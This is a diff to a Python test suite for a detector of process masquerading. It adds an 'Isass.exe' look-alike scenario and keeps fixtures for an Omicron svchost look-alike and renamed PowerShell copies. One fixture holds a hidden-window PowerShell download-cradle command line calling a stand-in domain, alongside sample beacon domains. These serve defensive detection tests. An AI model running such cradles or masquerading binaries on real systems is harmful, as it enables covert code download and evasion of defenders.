@@ -9,7 +9,8 @@ a version resource could write any name, and no benign binary may be read as Pow
 Localized tools with non-ASCII names read as no Windows binary and get no step.
 
 Then through the real path (simulate -> ingest -> embedded store -> detect) with the simulator's
-own scenarios and three more: an svchost.exe look-alike beaconing from ProgramData, renamed
+own scenarios and four more: an svchost.exe look-alike beaconing from ProgramData, an
+``Isass.exe`` (a capital I for the l, which UTS #39 folds to an l), renamed
 PowerShell copies with a command line of their own per host (no member: the step names the
 one-host processes), and a localized vendor tool rolled out to as many hosts.
 """
@@ -35,12 +36,14 @@ OMICRON = "\u03bf"  # GREEK SMALL LETTER OMICRON
 CYRILLIC_O = "\u043e"
 CYRILLIC_IE = "\u0435"
 LOOKALIKE_IMAGE = f"C:\\ProgramData\\Microsoft\\svch{OMICRON}st.exe"
+CAPITAL_I_IMAGE = "C:\\Users\\Public\\Isass.exe"  # a capital I for the l (review T10, finding 7)
 LOCALIZED_IMAGE = "C:\\Program Files\\\u041a\u043e\u043d\u0442\u0443\u0440\\\u041f\u0440\u043e\u0432\u043e\u0434\u043d\u0438\u043a.exe"
 POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
 COPY = "C:\\Users\\Public\\svcupd.exe"
 BEACON_DOMAIN = "telemetry-sync-cdn.example"
 CRADLE_DOMAIN = "img-share-cdn.example"
 VENDOR_DOMAIN = "updates.kontur-soft.example"
+CAPITAL_I_DOMAIN = "auth-relay-cdn.example"
 
 
 def _process(image: str, original: str | None = None, line: str | None = None) -> Entity:
@@ -164,6 +167,8 @@ SCENARIOS = {
     "renamed_per_host": _scenario("renamed_per_host", "attack", CRADLE_DOMAIN, "13:40", _one_process(
         "explorer", COPY, f'svcupd.exe -nop -w hidden -c "iwr http://{CRADLE_DOMAIN}/{{{{random}}}}.png"',
         CRADLE_DOMAIN, 80, copy_of=POWERSHELL)),
+    "capital_i_lsass": _scenario("capital_i_lsass", "attack", CAPITAL_I_DOMAIN, "12:30", _one_process(
+        "explorer", CAPITAL_I_IMAGE, f'"{CAPITAL_I_IMAGE}" -s', CAPITAL_I_DOMAIN, 443)),
     "localized_tool": _scenario("localized_tool", "benign", VENDOR_DOMAIN, "15:10", _one_process(
         "schedule", LOCALIZED_IMAGE, f'"{LOCALIZED_IMAGE}" /update', VENDOR_DOMAIN, 443)),
 }
@@ -199,6 +204,13 @@ def test_the_svchost_lookalike_member_gets_the_step_through_ingest(clusters):
                            f"('{OMICRON}' U+03BF GREEK SMALL LETTER OMICRON for 'o'; spelled svch[U+03BF]st.exe")
 
 
+def test_a_capital_i_for_an_l_gets_the_step_through_ingest(clusters):
+    cluster = _cluster_of(clusters, CAPITAL_I_DOMAIN)
+    (step,) = _masquerade_steps(cluster)
+    assert step.startswith("Isass.exe imitates lsass.exe with look-alike characters "
+                           "('I' U+0049 LATIN CAPITAL LETTER I for 'l'; spelled Isass.exe")
+
+
 def test_per_host_renamed_copies_get_the_renamed_step_through_ingest(clusters):
     cluster = _cluster_of(clusters, CRADLE_DOMAIN)
     assert not any(e.type == "process" and "svcupd.exe" in e.value for e in cluster.entities)  # each on one host
@@ -210,4 +222,4 @@ def test_per_host_renamed_copies_get_the_renamed_step_through_ingest(clusters):
 def test_no_other_cluster_gets_a_masquerade_step(clusters):
     _cluster_of(clusters, VENDOR_DOMAIN)  # the localized tool's rollout is a cluster, and quiet
     named = {c.pivot.value: _masquerade_steps(c) for c in clusters if _masquerade_steps(c)}
-    assert set(named) <= {BEACON_DOMAIN, CRADLE_DOMAIN}, named
+    assert set(named) <= {BEACON_DOMAIN, CRADLE_DOMAIN, CAPITAL_I_DOMAIN}, named
